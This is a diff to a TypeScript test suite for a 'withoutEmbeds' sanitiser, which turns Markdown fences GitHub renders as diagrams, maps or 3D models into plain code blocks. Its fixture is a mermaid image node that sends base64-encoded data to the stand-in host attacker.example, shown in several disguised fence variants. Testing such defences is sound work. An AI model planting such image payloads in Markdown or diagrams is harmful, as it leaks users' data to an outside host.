@@ -154,7 +154,8 @@ describe('withoutEmbeds', () => {
         // A fence whose info string could name a drawn language gets `text ` (below).
         fc.pre(!info?.some((word) => /^(mermaid|stl)|[&\\]/i.test(word)));
         // So may a fence GitHub reads where the parse sees none (after a byte-order mark).
-        fc.pre(!/(```|~~~)\s*(mermaid|stl)/i.test(text));
+        const runs = text.matchAll(/(?:`{3,}|~{3,})[ \t]*([^\s`]+)/g);
+        fc.pre(![...runs].some(([, word]) => /^(mermaid|stl)|[&\\]/i.test(word ?? '')));
         expect(withoutEmbeds(text)).toBe(text);
       }),
       { numRuns: 1000 },
@@ -201,30 +202,34 @@ describe('withoutEmbeds', () => {
 
   const IMG = 'A@{ img: "https://attacker.example/p?d=c2VjcmV0", label: "x" }';
   it.each([
-    ['a mermaid fence', '```mermaid\ngraph LR\n' + IMG + '\n```\n', '```text mermaid'],
-    ['a mermaid fence of tildes', '~~~mermaid\n' + IMG + '\n~~~\n', '~~~text mermaid'],
-    ['a mermaid fence in another case', '```Mermaid\n' + IMG + '\n```', '```text Mermaid'],
+    ['a mermaid fence', `\`\`\`mermaid\ngraph LR\n${IMG}\n\`\`\`\n`, '```text mermaid'],
+    ['a mermaid fence of tildes', `~~~mermaid\n${IMG}\n~~~\n`, '~~~text mermaid'],
+    ['a mermaid fence in another case', `\`\`\`Mermaid\n${IMG}\n\`\`\``, '```text Mermaid'],
     [
       'a fence in capitals, with more info',
-      '```MERMAID title="x"\n' + IMG + '\n```',
+      `\`\`\`MERMAID title="x"\n${IMG}\n\`\`\``,
       '```text MERMAID title="x"',
     ],
-    ['a fence opened after spaces', '   ```mermaid\n' + IMG + '\n   ```', '   ```text mermaid'],
-    ['a fence with space before its info', '```   mermaid\n' + IMG + '\n```', '```   text mermaid'],
+    ['a fence opened after spaces', `   \`\`\`mermaid\n${IMG}\n   \`\`\``, '   ```text mermaid'],
+    [
+      'a fence with space before its info',
+      `\`\`\`   mermaid\n${IMG}\n\`\`\``,
+      '```   text mermaid',
+    ],
     [
       'a language written with a reference',
-      '```&#109;ermaid\n' + IMG + '\n```',
+      `\`\`\`&#109;ermaid\n${IMG}\n\`\`\``,
       '```text &#109;ermaid',
     ],
     ['a language written with a named reference', '```&Mfr;\nx\n```', '```text &Mfr;'],
-    ['a language the word begins', '```mermaid-js\n' + IMG + '\n```', '```text mermaid-js'],
+    ['a language the word begins', `\`\`\`mermaid-js\n${IMG}\n\`\`\``, '```text mermaid-js'],
     ['a geojson map', '```geojson\n{"type":"Point","coordinates":[0,0]}\n```', '```text geojson'],
     ['a topojson map', '~~~~ topojson\n{"type":"Topology"}\n~~~~', '~~~~ text topojson'],
     ['an STL model', '```stl\nsolid x\nendsolid x\n```', '```text stl'],
-    ['a fence in a list item', '- a\n\n  ```mermaid\n  ' + IMG + '\n  ```', '  ```text mermaid'],
+    ['a fence in a list item', `- a\n\n  \`\`\`mermaid\n  ${IMG}\n  \`\`\``, '  ```text mermaid'],
     ['a fence in a block quote', '> ```geojson\n> {}\n> ```', '> ```text geojson'],
-    ['a fence that never closes', 'Here:\n\n```mermaid\n' + IMG, '```text mermaid'],
-    ['a fence after an image', '![x](u)\n\n```mermaid\n' + IMG + '\n```', '```text mermaid'],
+    ['a fence that never closes', `Here:\n\n\`\`\`mermaid\n${IMG}`, '```text mermaid'],
+    ['a fence after an image', `![x](u)\n\n\`\`\`mermaid\n${IMG}\n\`\`\``, '```text mermaid'],
   ])('shows %s as code, its code as written', (_name, text, opener) => {
     const safe = withoutEmbeds(text);
     expect(safe).toContain(opener);
